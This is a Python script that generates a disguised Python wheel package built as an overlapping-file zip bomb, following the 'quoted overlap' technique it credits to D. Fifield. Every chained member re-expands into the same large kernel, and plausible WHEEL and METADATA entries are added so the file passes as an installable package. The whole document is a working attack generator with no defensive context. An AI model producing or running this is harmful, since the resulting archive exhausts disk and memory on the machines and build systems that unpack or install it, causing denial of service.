#!/usr/bin/env python3
"""overlap_wheel.py OUT N MB: a wheel of N overlapping members (D. Fifield's 'quoted overlap'): member i's
deflate stream quotes member i+1's local header in a stored block and goes on
into member i+1's stream, so every member unpacks to the kernel's output."""
import struct, sys, zlib
out_path, n, kernel_mb = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
c = zlib.compressobj(9, zlib.DEFLATED, -15)
import random
rnd = random.Random(1)
plain = bytes(rnd.getrandbits(8) if k % 40 == 0 else 0 for k in range(1 << 20)) * kernel_mb
kernel = c.compress(plain) + c.flush()
kernel_out_len = kernel_mb << 20
names = [b"ov-1.0.dist-info/RECORD"] + [b"ov/m%04d.so" % i for i in range(n)]

def lfh(name, crc, csize, usize):
    return struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 8, 0, 0, crc, csize, usize, len(name), 0) + name

# build from the last member back: member i data = stored(quote of header i+1) + data(i+1)
heads = [None] * len(names)
datas = [None] * len(names)
outs = [None] * len(names)     # uncompressed content of each member
datas[-1] = kernel
outs[-1] = None  # kernel output, its crc computed incrementally
crc_kernel = zlib.crc32(plain)
crcs = [0] * len(names); usizes = [0] * len(names)
crcs[-1] = crc_kernel; usizes[-1] = kernel_out_len
for i in range(len(names) - 1, -1, -1):
    if i < len(names) - 1:
        h = heads[i + 1]
        quote = struct.pack("<BHH", 0, len(h), len(h) ^ 0xffff) + h
        datas[i] = quote + datas[i + 1]
        crcs[i] = zlib.crc32(plain, zlib.crc32(b"".join(heads[i + 1:])))
        usizes[i] = len(b"".join(heads[i + 1:])) + kernel_out_len
    heads[i] = lfh(names[i], crcs[i], len(datas[i]), usizes[i])
# the file: header 0, then everything quoted by it, in order, then the kernel
body = b""
offsets = []
pos = 0
for i in range(len(names)):
    offsets.append(pos)
    body += heads[i] + (struct.pack("<BHH", 0, len(heads[i + 1]), len(heads[i + 1]) ^ 0xffff) if i < len(names) - 1 else b"")
    pos = len(body)
body += kernel
# the WHEEL and METADATA as plain members after it
extra = []
for name, text in ((b"ov-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\nRoot-Is-Purelib: false\nTag: py3-none-any\n"),
                   (b"ov-1.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: ov\nVersion: 1.0\n")):
    off = len(body)
    crc = zlib.crc32(text)
    body += struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, 0, 0, 0, crc, len(text), len(text), len(name), 0) + name + text
    extra.append((name, crc, len(text), len(text), off, 0))
cd = b""
ents = [(names[i], crcs[i], len(datas[i]), usizes[i], offsets[i], 8) for i in range(len(names))] + extra
for name, crc, cs, us, off, meth in ents:
    cd += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 20, 20, 0, meth, 0, 0, crc, cs, us, len(name), 0, 0, 0, 0, 0, off) + name
eocd = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, len(ents), len(ents), len(cd), len(body), 0)
open(out_path, "wb").write(body + cd + eocd)
print(len(body + cd + eocd), sum(u for _, _, _, u, _, _ in ents))
